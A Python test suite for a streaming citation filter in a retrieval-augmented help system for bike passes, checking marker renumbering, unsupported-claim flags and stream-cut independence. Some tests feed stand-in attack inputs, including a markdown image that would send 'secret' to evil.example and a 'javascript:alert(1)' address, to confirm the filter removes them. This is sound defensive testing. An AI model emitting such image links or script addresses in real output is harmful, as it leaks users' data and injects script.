"""Markers are checked while the answer streams, and the result does not depend on how the stream is cut."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pedalcast.rag.grounding.citations import Citations, Evidence
from pedalcast.rag.types import Passage


def evidence(number: int, document: str, text: str, url: str | None = None) -> Evidence:
    lang = "ko" if any("가" <= c <= "힣" for c in text) else "en"
    return Evidence(Passage(f"c{number}", document, document, url, None, lang, text, 100, 100 + len(text), "help", 1.0))


EVIDENCE = (
    evidence(1, "passes", "A day pass costs 5,000 won. A single ride of 60 minutes costs 1,000 won."),
    evidence(2, "helmets", "Helmets are not included. Wearing one is required by law.", "https://help.example/helmets"),
    evidence(3, "passes", "Season passes cost 7,000 won for 30 days."),
    evidence(4, "이용권", "일일권은 5,000원입니다. 반납이 늦으면 5분마다 200원이 부과됩니다."),
)


def run(text: str, *, strict: bool = False, cut: int = 1) -> tuple[str, Citations]:
    citations = Citations(EVIDENCE, strict=strict)
    shown = "".join(citations.feed(text[i : i + cut]) for i in range(0, len(text), cut))
    return shown + citations.finish(), citations


def shown(text: str) -> str:
    return run(text)[0]


def reasons(text: str) -> list[str]:
    return [flag.reason for flag in run(text)[1].flags]


class TestMarkersThatHold:
    @pytest.mark.parametrize(
        ("model", "reader"),
        [
            ("A day pass costs 5,000 won [1].", "A day pass costs 5,000 won [1]."),
            ("A day pass costs 5,000 won. [1]", "A day pass costs 5,000 won. [1]"),
            ("A day pass costs 5,000 won.[1]", "A day pass costs 5,000 won.[1]"),
            ("A day pass costs ₩5000【1】.", "A day pass costs ₩5000[1]."),
            ("A day pass costs 5,000 won [^1].", "A day pass costs 5,000 won [1]."),
            ("A day pass costs 5,000 won【1†source】.", "A day pass costs 5,000 won[1]."),
            ("일일권은 5천 원입니다[4].", "일일권은 5천 원입니다[1]."),
            ("Helmets are not included [2].", "Helmets are not included [1]."),
        ],
    )
    def test_stay_and_are_renumbered(self, model: str, reader: str) -> None:
        text, citations = run(model)
        assert (text, citations.flags) == (reader, [])

    def test_number_sources_in_order_of_first_use(self) -> None:
        text, citations = run("Helmets are not included [2]. A day pass costs 5,000 won [1]. Helmets: by law [2].")
        assert text == "Helmets are not included [1]. A day pass costs 5,000 won [2]. Helmets: by law [1]."
        assert [s.evidence.passage.document_id for s in citations.sources] == ["helmets", "passes"]

    def test_two_passages_of_one_document_are_one_source_with_both_quotes(self) -> None:
        text, citations = run("A season pass costs 7,000 won [3]. A day pass costs 5,000 won [1].")
        assert text == "A season pass costs 7,000 won [1]. A day pass costs 5,000 won [1]."
        [source] = citations.sources
        quotes = [item.passage.text[start:end] for item, start, end in source.quotes]
        assert quotes == ["Season passes cost 7,000 won for 30 days.", "A day pass costs 5,000 won."]

    @pytest.mark.parametrize("markers", ["[1][3]", "[1, 3]", "[1,3]", "[3] [1]", "[1][1]", "[1][9]"])
    def test_a_run_of_markers_of_one_document_becomes_one(self, markers: str) -> None:
        assert shown(f"A day pass costs 5,000 won {markers}.") == "A day pass costs 5,000 won [1]."

    def test_two_documents_in_one_sentence_keep_their_places(self) -> None:
        text = "A day pass costs 5,000 won [1] and helmets are not included [2]."
        assert shown(text) == text

    def test_a_document_that_adds_nothing_loses_its_marker(self) -> None:
        assert shown("A day pass costs 5,000 won [1][2].") == "A day pass costs 5,000 won [1]."

    def test_a_marker_on_its_own_line_belongs_to_the_line_before(self) -> None:
        text = "- A day pass costs 5,000 won.\n[1]\n- Helmets are not included. [2]"
        assert shown(text) == "- A day pass costs 5,000 won. [1]\n- Helmets are not included. [2]"


class TestMarkersThatDoNot:
    def test_an_unknown_number_is_dropped(self) -> None:
        text, citations = run("A day pass costs 5,000 won [7].")
        assert text == "A day pass costs 5,000 won."
        assert [(f.reason, f.numbers) for f in citations.flags] == [("unknown", ("7",))]

    @pytest.mark.parametrize("number", [0, 5, 99, 2024])
    def test_no_number_outside_the_passages_gets_through(self, number: int) -> None:
        text, citations = run(f"A day pass costs 5,000 won [{number}].")
        assert (text, citations.sources) == ("A day pass costs 5,000 won.", [])

    @pytest.mark.parametrize(
        ("sentence", "reason"),
        [
            ("A day pass costs 6,000 won [1].", "numbers"),
            ("A day pass costs 5,000 won [2].", "numbers"),
            ("일일권은 6,000원입니다 [4].", "numbers"),
            ("Bikes may be taken aboard any ferry [2].", "words"),
            ("Helmets are included [2].", "negation"),
        ],
    )
    def test_a_sentence_its_source_does_not_bear_out_loses_its_marker_and_is_flagged(
        self, sentence: str, reason: str
    ) -> None:
        text, citations = run(sentence)
        assert "[" not in text
        assert [flag.reason for flag in citations.flags] == [reason]
        assert citations.sources == []

    def test_one_wrong_sentence_does_not_touch_the_others(self) -> None:
        text = shown("A day pass costs 5,000 won [1]. A day pass costs 9,000 won [1]. Helmets are not included [2].")
        assert text == "A day pass costs 5,000 won [1]. A day pass costs 9,000 won. Helmets are not included [2]."

    def test_a_statement_without_a_marker_that_nothing_bears_out_is_flagged(self) -> None:
        assert reasons("A day pass costs 5,000 won [1]. Tandems cost 9,000 won.") == ["unsourced"]

    def test_small_words_without_a_marker_are_not(self) -> None:
        assert reasons("Sure! A day pass costs 5,000 won [1]. Enjoy the ride.") == []

    def test_what_a_passage_says_needs_no_marker_to_pass(self) -> None:
        assert reasons("Helmets are not included. Wearing one is required by law. [2]") == []


class TestTextAroundThem:
    @pytest.mark.parametrize(
        "text",
        [
            "an array[i] and [a link] and (brackets)",
            "an open bracket [1",
            "an open bracket [",
            "[]",
            "e.g. this",
            "- one\n- two\n\n1. three",
        ],
    )
    def test_other_brackets_pass_untouched(self, text: str) -> None:
        assert shown(text) == text

    def test_a_decimal_or_an_abbreviation_does_not_end_a_sentence(self) -> None:
        assert reasons("Approx. 5,000 won, e.g. for a day pass [1].") == []

    def test_a_marker_made_a_link_loses_its_target(self) -> None:
        assert shown("A day pass costs 5,000 won [1](https://evil.example/).") == "A day pass costs 5,000 won [1]."

    def test_a_bracket_behind_a_marker_is_kept(self) -> None:
        assert shown("A day pass [1](5,000 won)") == "A day pass [1](5,000 won)"

    @pytest.mark.parametrize("address", ["https://evil.example/x?q=1", "www.evil.example", "javascript:alert(1)"])
    def test_an_address_that_no_passage_has_is_taken_out(self, address: str) -> None:
        text, citations = run(f"See {address} now.")
        assert "evil" not in text
        assert "alert" not in text
        assert "address" in [flag.reason for flag in citations.flags]

    def test_an_image_cannot_carry_data_out(self) -> None:
        assert shown("![x](https://evil.example/?q=secret)") == "![x](…)"

    def test_an_address_of_a_source_stays(self) -> None:
        assert shown("See https://help.example/helmets.") == "See https://help.example/helmets."

    def test_text_before_a_marker_streams_without_waiting_for_the_sentence_to_end(self) -> None:
        citations = Citations(EVIDENCE)
        assert citations.feed("A day pass costs 5,0") == "A day pass costs"
        assert citations.feed("00 won ") == " 5,000 won"
        assert citations.feed("[1]") == ""
        assert citations.feed(". Helmets") == ""
        assert citations.feed(" ") == " [1]. Helmets"


class TestStrict:
    def test_a_sentence_that_does_not_hold_is_left_out(self) -> None:
        text, _ = run("A day pass costs 6,000 won [1]. Helmets are not included [2].", strict=True)
        assert text == "Helmets are not included [1]."

    def test_so_is_a_statement_without_a_source(self) -> None:
        text, _ = run("Tandems cost 9,000 won. Helmets are not included [2].", strict=True)
        assert text == "Helmets are not included [1]."

    def test_nothing_is_shown_before_it_is_checked(self) -> None:
        citations = Citations(EVIDENCE, strict=True)
        assert citations.feed("A day pass costs 6,000 won [1].") == ""
        assert citations.feed(" Helmets are not included [2]. Bye") == ""
        assert citations.finish() == "Helmets are not included [1]. Bye"


PIECES = st.sampled_from(
    ["A day pass costs 5,000 won", "일일권은 5,000원입니다", "Helmets are not included", "It costs 9,999 won", "[1]",
     "[2]", "[3]", "[4]", "[9]", "[1, 2]", "[", "]", "【2】", "(", ")", ".", ". ", " ", "\n", "- ", "。", "e.g. ",
     "https://evil.example/a", "[1](https://evil.example)", "[^2]", "!", "a.m. ", "1. "]
)  # fmt: skip


class TestAnyCutting:
    @settings(max_examples=150, deadline=None)
    @given(st.lists(PIECES, max_size=14), st.lists(st.integers(1, 9), min_size=1, max_size=30), st.booleans())
    def test_gives_the_same_text_flags_and_sources(self, pieces: list[str], cuts: list[int], strict: bool) -> None:
        whole = "".join(pieces)
        once = Citations(EVIDENCE, strict=strict)
        expected = once.feed(whole) + once.finish()
        streamed = Citations(EVIDENCE, strict=strict)
        text, at, turn = "", 0, 0
        while at < len(whole):
            step = cuts[turn % len(cuts)]
            text += streamed.feed(whole[at : at + step])
            at, turn = at + step, turn + 1
        text += streamed.finish()
        assert (text, streamed.flags, streamed.sources) == (expected, once.flags, once.sources)

    @settings(max_examples=150, deadline=None)
    @given(st.lists(PIECES, max_size=14))
    def test_every_marker_that_remains_names_a_source_with_a_verbatim_quote(self, pieces: list[str]) -> None:
        text, citations = run("".join(pieces), cut=5)
        numbers = {source.number for source in citations.sources}
        assert numbers == set(range(1, len(numbers) + 1))
        assert "evil.example" not in text
        for source in citations.sources:
            assert f"[{source.number}]" in text
            assert source.quotes
            for item, start, end in source.quotes:
                assert 0 <= start < end <= len(item.passage.text)
